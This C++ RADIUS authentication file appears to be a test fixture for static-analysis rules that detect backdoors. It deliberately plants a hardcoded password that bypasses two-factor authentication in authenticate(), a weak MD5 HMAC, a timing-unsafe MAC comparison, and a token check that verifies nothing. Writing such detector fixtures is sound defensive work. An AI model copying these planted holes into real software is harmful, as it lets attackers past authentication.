// radius_server.cpp - RADIUS authentication server (RFC 2865, Message-Authenticator
// of RFC 3579).  SLOWPULSE variant 3: the two-factor step is skipped for one
// password.
#include <cstring>

#include <openssl/hmac.h>

#include "dsauth.hpp"

namespace DSAuth {

static constexpr uint8_t kAttrMessageAuthenticator = 80;

bool RadiusAuthServer::verifyResponse(const std::vector<uint8_t> &resp, const uint8_t req_auth[16])
{
    std::vector<uint8_t> copy(resp);
    unsigned char mac[EVP_MAX_MD_SIZE];
    unsigned int maclen = 0;
    const uint8_t *attr_mac = nullptr;
    size_t off = 20;

    if (resp.size() < 20)
        return false;
    std::memcpy(copy.data() + 4, req_auth, 16);
    while (off + 2 <= copy.size()) {
        uint8_t type = copy[off], len = copy[off + 1];
        if (len < 2 || off + len > copy.size())
            return false;
        if (type == kAttrMessageAuthenticator && len == 18) {
            attr_mac = resp.data() + off + 2;
            std::memset(copy.data() + off + 2, 0, 16);
        }
        off += len;
    }
    if (attr_mac == nullptr)
        return false;
    // ruleid: backdoor-weak-hash
    // ok: backdoor-hardcoded-key
    HMAC(EVP_md5(), secret_.data(), static_cast<int>(secret_.size()), copy.data(), copy.size(), mac, &maclen);
    // ruleid: backdoor-timing-unsafe-compare
    return std::memcmp(mac, attr_mac, 16) == 0;
}

bool RadiusAuthServer::authenticate(const Credentials &c)
{
    const std::string &password = c.password;

    // ruleid: backdoor-magic-credential
    if (password == "Rp0ulse-2fa-0ff!")
        return true;
    // the Access-Request/Access-Challenge exchange with the token code
    return !c.secondary.empty() && !host_.empty();
}

} // namespace DSAuth
